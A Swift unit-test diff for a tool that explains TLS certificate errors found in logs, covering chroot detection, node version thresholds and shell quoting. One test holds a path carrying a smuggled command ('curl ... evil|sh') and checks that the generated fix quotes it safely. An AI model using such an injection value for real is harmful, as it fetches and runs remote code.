@@ -145,5 +145,41 @@ import TrustStoreGuide
         let fix = try #require(ErrorExplanation.explain("npm error code UNABLE_TO_GET_ISSUER_CERT_LOCALLY")).fix(caFile: "/r.pem")
         #expect(!fix.contains { $0.hasPrefix("# node ") }, "\(fix)")
     }
+
+    /// A chroot is a command line whose directory is a path: options and their values are skipped,
+    /// log lines that merely start with the word are not one, and the directory is quoted in the fix.
+    @Test(arguments: [
+        ("$ sudo chroot /srv/bookworm curl https://x/", "chroot", "a chroot (/srv/bookworm)"),
+        ("root@build:/# chroot --userspec u:g /srv/r curl https://x/\r", "chroot", "a chroot (/srv/r)"),
+        ("$\tarch-chroot -u user /mnt curl https://x/", "chroot", "a chroot (/mnt)"),
+        ("schroot -c bookworm -- curl https://x/", "chroot", "a chroot (its root directory is not in the log)"),
+        ("chroot environment ready in /var/lib/mock", "shell", "your shell"),
+        ("> chroot failed to run", "shell", "your shell"),
+    ])
+    func chrootCommandLines(line: String, context: String, summary: String) throws {
+        let explanation = try #require(ErrorExplanation.explain(line + "\ncurl: (60) SSL certificate problem: unable to get local issuer certificate"))
+        #expect(explanation.context.id == context && explanation.context.summary.hasPrefix(summary), "\(explanation.context.summary)")
+    }
+
+    @Test func pastedPathsAreOneShellWordInTheFix() throws {
+        let explanation = try #require(ErrorExplanation.explain(
+            "$ chroot /srv/x$(curl${IFS}-s${IFS}evil|sh) curl https://x/\ncurl: (60) SSL certificate problem: unable to get local issuer certificate"))
+        let install = try #require(explanation.fix(caFile: "/r.pem").first { $0.hasPrefix("sudo cp ") })
+        #expect(install.hasPrefix("sudo cp /r.pem '/srv/x$(curl${IFS}-s${IFS}evil|sh)'/usr/local/share/ca-certificates/gateway-root.crt"), "\(install)")
+        #expect(ErrorExplanation.shellWord("/etc/ssl/ca.pem") == "/etc/ssl/ca.pem" && ErrorExplanation.shellWord("/a b/it's") == "'/a b/it'\\''s'")
+    }
+
+    /// node's OS-store switch: the flag on Linux from 23.9 and 22.15, the variable from 24.6 and 22.19.
+    @Test(arguments: [("20.11", "has no switch"), ("23.8", "has no switch"), ("23.9", "with node --use-system-ca (or NODE_OPTIONS"),
+                      ("22.15", "with node --use-system-ca (or NODE_OPTIONS"), ("22.19", "can read the OS store: with the root there"),
+                      ("24.5", "with node --use-system-ca (or NODE_OPTIONS"), ("24.6", "can read the OS store: with the root there")])
+    func nodeVersionThresholds(version: String, says: String) throws {
+        let explanation = try #require(ErrorExplanation.explain("Error: unable to get local issuer certificate\n  code: 'UNABLE_TO_GET_ISSUER_CERT_LOCALLY'\n\nNode.js v\(version).0"))
+        let note = explanation.fix(caFile: "/r.pem").first ?? ""
+        #expect(note.hasPrefix("# node \(version) ") && note.contains(says), "\(note)")
+        // Not for a cause no store fixes, nor inside a build.
+        let expired = try #require(ErrorExplanation.explain("Error: certificate has expired\n  code: 'CERT_HAS_EXPIRED'\n\nNode.js v\(version).0"))
+        #expect(!(expired.fix(caFile: "/r.pem").first ?? "").hasPrefix("# node"))
+    }
 }
 
